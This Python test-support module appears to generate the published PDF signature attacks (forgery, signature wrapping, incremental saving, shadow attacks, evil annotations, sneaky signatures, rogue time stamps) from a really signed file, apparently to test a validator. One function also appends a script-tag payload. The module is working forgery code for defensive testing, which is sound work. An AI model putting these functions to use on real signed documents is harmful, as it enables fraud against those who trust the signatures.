"""The published attacks on PDF signatures, each made here from a file that is really signed.

Universal signature forgery, signature wrapping, incremental saving: Mladenov et al., "1 Trillion Dollar Refund", CCS 2019. Shadow
attacks (hide, replace, hide and replace): Mainka et al., NDSS 2021. Evil annotation and sneaky signature: Mainka et al., "Breaking the
Specification: PDF Certification", S&P 2021.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from datetime import UTC, datetime

from asn1crypto.parser import peek
from pyhanko.pdf_utils.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import SigFieldSpec, append_signature_field
from pyhanko.sign.signers import PdfTimeStamper

from tests.support.attack_signers import marked, officer, signed_by, stranger, stranger_stamps
from tests.support.pdf_revisions import (
    CONTENT,
    EVIL,
    FIELD,
    FONT,
    FORM,
    OTHER_CATALOG,
    OVERLAY,
    PAGE,
    SHOWN,
    last_xref,
    shown_now,
    size_of,
    stream,
    update,
)

_OTHER_LETTERS = (
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding /Differences [49 /nine] >> >>"
)
type Attack = Callable[[bytes], bytes]


def _contents(pdf: bytes) -> tuple[int, int]:
    """Where the first /Contents of a signature begins and ends, its brackets included."""
    start = re.search(rb"/Contents <[0-9a-fA-F]{200}", pdf)
    assert start is not None
    first = start.start() + len(b"/Contents ")
    return first, pdf.index(b">", first) + 1


# -- universal signature forgery: the validation has nothing to look at


def forge(pattern: bytes, by: bytes) -> Attack:
    """Replace an entry of the signature without moving a byte, and what the page says too."""

    def attack(pdf: bytes) -> bytes:
        found = re.search(pattern, pdf)
        assert found is not None and len(by) <= len(found[0])
        return pdf[: found.start()] + by.ljust(len(found[0])) + pdf[found.end() :]

    return attack


def forge_later(entries: bytes) -> Attack:
    """A later revision gives the signature other entries, and the page another content."""

    def attack(pdf: bytes) -> bytes:
        number = int(re.search(rb"(\d+) 0 obj\n<<\n/Contents <", pdf)[1])  # type: ignore[index]
        return update(pdf, {number: b"<< /Type /Sig /Filter /Adobe.PPKLite %s >>" % entries, CONTENT: stream(EVIL)})

    return attack


# -- signature wrapping: the second part that is covered moves, and something else stands in its place


def wrap(pdf: bytes) -> bytes:
    """The range names the moved part; where the cross-references were stand others, which know an evil page."""
    first, after = _contents(pdf)
    start, tail = last_xref(pdf), pdf[after:]
    number = int(re.search(rb"(\d+) 0 obj\n<<\n/Contents <", pdf)[1])  # type: ignore[index]
    reader = PdfFileReader(io.BytesIO(pdf))
    known = reader.xrefs.get_xref_data(reader.total_revisions - 1).standard_xrefs
    previous = int(re.findall(rb"/Prev (\d+)", pdf)[-1])
    room = b"%".ljust(start - after - 1, b"-") + b"\n"

    def middle(moved_by: int, signature_at: int, content_at: int) -> bytes:
        entries = {which: offset + (moved_by if offset >= after else 0) for which, (_, offset) in known.items()}
        entries |= {number: signature_at, CONTENT: content_at}
        table = b"".join(b"%d 1\n%010d 00000 n \n" % entry for entry in sorted(entries.items()))
        trailer = b"trailer\n<< /Root 1 0 R /Size %d /Prev %010d /ID [<00><01>] >>\n" % (size_of(pdf), previous)
        return b"xref\n" + table + trailer + b"startxref\n%010d\n%%%%EOF\n" % start

    length = len(middle(0, 0, 0))
    evil = b"%d 0 obj\n%s\nendobj\n" % (CONTENT, stream(EVIL))

    def signature(range_at: int) -> bytes:
        numbers = b"[0 %d %010d %d]" % (first, range_at, len(tail))
        entries = b"/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached"
        return b"%d 0 obj\n<< %s /Contents %s /ByteRange %s >>\nendobj\n" % (number, entries, pdf[first:after], numbers)

    signature_at = start + length
    content_at = signature_at + len(signature(0))
    moved_to = content_at + len(evil)
    table = middle(moved_to - after, signature_at, content_at)
    return pdf[:after] + room + table + signature(moved_to) + evil + tail


def in_the_gap(pdf: bytes) -> bytes:
    """Entries of the signature between the end of its value and the end of the gap: no signature covers them."""
    first, after = _contents(pdf)
    size = peek(bytes.fromhex(pdf[first + 1 : after - 1].decode()))  # a value may end with a zero of its own
    value = pdf[first : first + 1 + 2 * size]
    return pdf[:first] + (value + b"> /Name (Chu tich)").ljust(after - first) + pdf[after:]


def half_of_the_gap(pdf: bytes) -> bytes:
    """The value as a string of characters takes half the room of a hexadecimal one; the other half holds what the attacker likes."""
    first, after = _contents(pdf)
    value = bytes.fromhex(pdf[first + 1 : after - 1].decode())
    literal = re.sub(rb"[()\\\r\n]", lambda found: b"\\%03o" % found[0][0], value)
    return pdf[:first] + (b"(" + literal + b") /Name (Chu tich)").ljust(after - first) + pdf[after:]


# -- incremental saving: later bytes, with fewer and fewer of what makes a revision


def saved(pdf: bytes) -> bytes:
    """A whole revision."""
    return update(pdf, {CONTENT: stream(EVIL)})


def saved_with_signature(pdf: bytes) -> bytes:
    """A whole revision that repeats the signature, so that it seems to stand in the last one."""
    number = int(re.search(rb"(\d+) 0 obj\n<<\n/Contents <", pdf)[1])  # type: ignore[index]
    return update(pdf, {CONTENT: stream(EVIL), number: shown_now(pdf, number)})


def saved_without_xref(pdf: bytes) -> bytes:
    """Objects and the old end once more: readers that repair files take them."""
    return pdf + b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (CONTENT, stream(EVIL), last_xref(pdf))


def saved_with_trailer_alone(pdf: bytes) -> bytes:
    """Objects and a trailer that names no cross-references of its own."""
    trailer = b"trailer\n<< /Root 1 0 R /Size %d /Prev %d >>\n" % (size_of(pdf), last_xref(pdf))
    return pdf + b"%d 0 obj\n%s\nendobj\n" % (CONTENT, stream(EVIL)) + trailer


def saved_behind_evidence(pdf: bytes) -> bytes:
    """An object that no cross-reference names, in a revision that keeps to what is allowed."""
    hidden = b"%d 0 obj\n%s\nendobj\n" % (CONTENT, stream(EVIL))
    return update(pdf, {size_of(pdf): b"<< /Unused true >>"}, before=hidden)


def saved_with_comments(pdf: bytes) -> bytes:
    """The same, its head written with comments, as readers that work by tokens take it."""
    hidden = b"%d %%a\n0%%b\nobj\n%s\nendobj\n" % (CONTENT, stream(EVIL))
    return update(pdf, {size_of(pdf): b"<< /Unused true >>"}, before=hidden)


def suffix(pdf: bytes) -> bytes:
    """Bytes after the end."""
    return pdf + b"<script>alert(1)</script>\n"


def prefix(pdf: bytes) -> bytes:
    """Bytes before the beginning; readers look for the header within the first kilobyte."""
    return b"\x00MZ something else\n" + pdf


# -- shadow attacks: everything lies in what was signed; a later revision shows it


def hide_by_freeing(pdf: bytes) -> bytes:
    """The overlay is no more."""
    return update(pdf, {}, freed=(OVERLAY,))


def hide_by_emptying(pdf: bytes) -> bytes:
    """The overlay paints nothing."""
    return update(pdf, {OVERLAY: stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 0 0]")})


def replace_font(pdf: bytes) -> bytes:
    """The same codes, other letters."""
    return update(pdf, {FONT: _OTHER_LETTERS})


def replace_field_appearance(pdf: bytes) -> bytes:
    """The field keeps its value and shows another."""
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 400 60] /Resources << /Font << /F1 5 0 R >> >>"
    return update(pdf, {SHOWN: stream(b"BT /F1 12 Tf 2 8 Td (900 000 000) Tj ET", entries)})


def fill_field(pdf: bytes) -> bytes:
    """The field gets another value."""
    return update(pdf, {FIELD: shown_now(pdf, FIELD).replace(b"/V (100)", b"/V (900)")})


def replace_letters_of_form(pdf: bytes) -> bytes:
    """The form names another font for its fields, and has readers draw them anew."""
    font = size_of(pdf)
    form = shown_now(pdf, FORM).replace(b"/F1 5 0 R", b"/F1 %d 0 R" % font)
    return update(pdf, {font: _OTHER_LETTERS, FORM: form.replace(b"<<", b"<< /NeedAppearances true", 1)})


def hide_and_replace_object(pdf: bytes) -> bytes:
    """The page's content is found where another one lay hidden."""
    return update(pdf, {}, moved={CONTENT: pdf.index(b"%d 0 obj" % CONTENT)})


def hide_and_replace_catalog(pdf: bytes) -> bytes:
    """The trailer names another catalogue."""
    return update(pdf, {}, moved={OTHER_CATALOG: pdf.index(b"%d 0 obj" % OTHER_CATALOG)}, root=OTHER_CATALOG)


# -- certified documents


def evil_annotation(pdf: bytes) -> bytes:
    """A note that looks like the text of the page."""
    note = size_of(pdf)
    look = stream(EVIL, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>")
    annotation = (
        b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 595 842] /F 4 /DA (/F1 24 Tf) /AP << /N %d 0 R >> >>"
        % (note + 1)
    )
    page = re.sub(rb"/Annots \[", b"/Annots [ %d 0 R " % note, shown_now(pdf, PAGE))
    return update(pdf, {PAGE: page, note: annotation, note + 1: look})


def sneaky_signature(pdf: bytes) -> bytes:
    """A stranger's signature whose mark lies upon the text."""
    return signed_by(pdf, stranger(), "ChuKyLa", box=(60, 690, 400, 730))


def sneaky_field(pdf: bytes) -> bytes:
    """A field for a signature that nobody signs, with a look of its own."""
    field = size_of(pdf)
    look = stream(EVIL, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>")
    body = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Trong) /F 132 /Rect [60 690 400 730] /P 3 0 R /AP << /N %d 0 R >> >>"
    page = re.sub(rb"/Annots \[", b"/Annots [ %d 0 R " % field, shown_now(pdf, PAGE))
    form = re.sub(rb"/Fields \[", b"/Fields [ %d 0 R " % field, shown_now(pdf, FORM))
    return update(pdf, {PAGE: page, FORM: form, field: body % (field + 1), field + 1: look})


def sneaky_time_stamp(pdf: bytes) -> bytes:
    """A document time stamp, which names nobody, by an authority that nobody knows; what it shows lies upon the text."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    append_signature_field(writer, SigFieldSpec("DauLa", box=(60, 690, 400, 730)))
    field = writer.root["/AcroForm"]["/Fields"][-1]
    look = StreamObject(stream_data=EVIL)
    look[NameObject("/Subtype")] = NameObject("/Form")
    look[NameObject("/BBox")] = ArrayObject(NumberObject(side) for side in (60, 690, 400, 730))
    field[NameObject("/AP")] = DictionaryObject({NameObject("/N"): writer.add_object(look)})
    writer.update_container(field)
    output = io.BytesIO()
    PdfTimeStamper(stranger_stamps(datetime.now(UTC)), field_name="DauLa").timestamp_pdf(
        writer, "sha256", output=output
    )
    return output.getvalue()


def mark_over_the_page(pdf: bytes) -> bytes:
    """A signature of somebody who is trusted, as large as the page."""
    return marked(pdf, (0, 0, 595, 842))


def stamped_by_a_stranger(pdf: bytes) -> bytes:
    """The officer's signature, with a time stamp of 2001 by an authority of its own."""
    return signed_by(pdf, officer(), "ChuKySo1", stamper=stranger_stamps(datetime(2001, 1, 1, tzinfo=UTC)))
